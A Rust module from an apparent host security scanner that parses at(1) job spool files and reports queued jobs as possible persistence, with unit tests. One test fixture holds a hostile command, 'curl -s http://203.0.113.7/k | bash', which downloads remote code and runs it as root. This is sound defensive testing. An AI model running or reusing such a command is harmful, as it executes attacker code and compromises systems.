//! Jobs queued with at(1): Debian's /var/spool/cron/atjobs, and /var/spool/at elsewhere.
//! A job file is a shell script that at writes: a preamble that restores the submitter's
//! umask, environment and directory, then the submitted commands. Only those commands
//! are judged; each queued job is listed with its owner and when it runs.

use super::{entries, is_binary, read, show, suspicious_finding};
use crate::context::{Context, Out};
use crate::suspicious;
use rampart_core::{Evidence, Finding, Severity, Step};

const SPOOLS: &[&str] = &["/var/spool/cron/atjobs", "/var/spool/at"];
/// Commands of one job shown in its listing.
const SHOWN_LINES: usize = 5;

/// One queued job as read from its spool file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Job {
    /// The uid at records in its `# atrun uid=N gid=N` header.
    pub uid: Option<u32>,
    /// When it runs (Unix seconds), from the file name.
    pub runs_at: Option<i64>,
    /// The submitted commands with their 1-based lines in the file.
    pub commands: Vec<(u64, String)>,
}

/// Run time from a job file name: queue letter, 5 hex digits of job number, 8 hex
/// digits of minutes since the epoch (`a0000b01a3c4e2f`).
fn run_time(name: &str) -> Option<i64> {
    let minutes = name.get(6..14)?;
    if name.len() != 14 || !name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '=') {
        return None;
    }
    i64::from_str_radix(minutes, 16).ok().map(|m| m * 60)
}

/// Splits a job file into its header facts and the submitted commands.
pub fn parse(text: &str) -> Job {
    let lines: Vec<&str> = text.lines().collect();
    let uid = lines.iter().find_map(|l| {
        let rest = l.strip_prefix("# atrun uid=")?;
        rest.split_whitespace().next()?.parse().ok()
    });
    // Debian's at hands the commands to the shell in a here-document:
    // `${SHELL:-/bin/sh} << 'marcinDELIMITER…'` … `marcinDELIMITER…`.
    let heredoc = lines.iter().position(|l| l.contains("<< 'marcinDELIMITER"));
    let body: Vec<(usize, &str)> = match heredoc {
        Some(start) => {
            let marker = lines[start]
                .split("<< '")
                .nth(1)
                .map(|m| m.trim_end_matches('\''))
                .unwrap_or("marcinDELIMITER");
            lines
                .iter()
                .enumerate()
                .skip(start + 1)
                .take_while(|(_, l)| l.trim() != marker)
                .map(|(i, l)| (i, *l))
                .collect()
        }
        None => {
            // Without the here-document, the commands follow the `cd … || { … }` block.
            let after_cd = lines
                .iter()
                .position(|l| l.trim_start().starts_with("cd ") && l.contains("||"))
                .and_then(|cd| {
                    lines
                        .iter()
                        .skip(cd)
                        .position(|l| l.trim() == "}")
                        .map(|p| cd + p + 1)
                })
                .unwrap_or(0);
            lines
                .iter()
                .enumerate()
                .skip(after_cd)
                .filter(|(_, l)| !is_preamble(l))
                .map(|(i, l)| (i, *l))
                .collect()
        }
    };
    let commands = body
        .into_iter()
        .filter(|(_, l)| {
            let t = l.trim();
            !t.is_empty() && !t.starts_with('#')
        })
        .map(|(i, l)| (i as u64 + 1, l.trim().to_string()))
        .collect();
    Job {
        uid,
        runs_at: None,
        commands,
    }
}

/// Lines at writes before the commands: the shebang and comments, umask, and the
/// `NAME=value; export NAME` environment copies.
fn is_preamble(line: &str) -> bool {
    let t = line.trim();
    if t.starts_with("umask ") || t.starts_with('#') {
        return true;
    }
    match t.split_once("; export ") {
        Some((assign, name)) => assign.split_once('=').is_some_and(|(n, _)| n == name.trim()),
        None => false,
    }
}

pub fn check(ctx: &Context, out: &mut Out) {
    for spool in SPOOLS {
        for e in entries(ctx, spool, "queued at jobs", out) {
            let name = e.name.to_string_lossy();
            // `.SEQ` is at's job counter; a directory is RHEL's spool/ for output.
            if name.starts_with('.')
                || ctx
                    .host
                    .symlink_metadata(&e.host_path)
                    .map(|m| !m.is_file())
                    .unwrap_or(true)
            {
                continue;
            }
            job_file(ctx, &e.host_path, &name, out);
        }
    }
}

fn job_file(ctx: &Context, path: &str, name: &str, out: &mut Out) {
    let Some(bytes) = read(ctx, path, out) else {
        return;
    };
    if is_binary(&bytes) {
        out.error(
            path,
            format!("{path}: binary data in the at spool; atd would run it as a job"),
        );
        return;
    }
    let mut job = parse(&String::from_utf8_lossy(&bytes));
    job.runs_at = run_time(name);
    let user = match job.uid {
        Some(uid) => ctx
            .accounts()
            .passwd
            .iter()
            .find(|p| p.uid == uid)
            .map(|p| p.name.clone())
            .unwrap_or_else(|| format!("uid {uid}")),
        None => "an unknown user".to_string(),
    };
    let when = match job.runs_at {
        Some(t) if name.starts_with('=') => format!("running since {}", rampart_core::time::utc_minute(t)),
        Some(t) => format!("runs at {}", rampart_core::time::utc_minute(t)),
        None => "run time unknown".to_string(),
    };
    let mut flagged = false;
    for (line, cmd) in &job.commands {
        let signals = suspicious::scan(cmd);
        if !signals.is_empty() {
            flagged = true;
            out.finding(suspicious_finding(
                "persistence.at-suspicious",
                &format!("at job of {user} ({when})"),
                path,
                Some(*line),
                cmd,
                &signals,
            ));
        }
    }
    if flagged {
        return;
    }
    let mut f = Finding::new(
        "persistence.at-job",
        Severity::Low,
        Step::Persistence,
        format!(
            "at job of {user} queued ({when}): {} command line(s)",
            job.commands.len()
        ),
    )
    .remedy(format!(
        "Check that you know this job (`atq`, `at -c {}`); remove an unknown one with `atrm`.",
        job_number(name)
            .map(|n| n.to_string())
            .unwrap_or_else(|| "JOB".into())
    ));
    for (line, cmd) in job.commands.iter().take(SHOWN_LINES) {
        f = f.evidence(Evidence::file(path.to_string(), Some(*line), show(cmd)));
    }
    if job.commands.is_empty() {
        f = f.evidence(Evidence::file(path.to_string(), None, "no commands"));
    }
    out.finding(f);
}

/// The job number atq shows, from the file name.
fn job_number(name: &str) -> Option<u32> {
    u32::from_str_radix(name.get(1..6)?, 16).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    const DEBIAN_JOB: &str = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n\
        PATH=/usr/bin:/bin; export PATH\nHOME=/root; export HOME\ncd /root || {\n\t echo 'Execution directory \
        inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER3c2a1b0f'\n\
        curl -s http://203.0.113.7/k | bash\n\nmarcinDELIMITER3c2a1b0f\n";

    #[test]
    fn debian_job_commands_and_header() {
        let j = parse(DEBIAN_JOB);
        assert_eq!(j.uid, Some(0));
        assert_eq!(
            j.commands,
            vec![(12, "curl -s http://203.0.113.7/k | bash".to_string())]
        );
    }

    #[test]
    fn job_without_heredoc() {
        let j = parse(
            "#!/bin/sh\n# atrun uid=1000 gid=1000\numask 22\nLANG=C; export LANG\ncd /home/a || {\n\
             echo no >&2\nexit 1\n}\n/usr/bin/backup --all\n",
        );
        assert_eq!(j.uid, Some(1000));
        assert_eq!(j.commands, vec![(9, "/usr/bin/backup --all".to_string())]);
    }

    #[test]
    fn names() {
        // Minute 0x01a3c4e2 since the epoch.
        assert_eq!(run_time("a0000b01a3c4e2"), Some(0x01a3c4e2 * 60));
        assert_eq!(run_time("=0000b01a3c4e2"), Some(0x01a3c4e2 * 60));
        assert_eq!(run_time(".SEQ"), None);
        assert_eq!(job_number("a0000b01a3c4e2"), Some(11));
    }
}
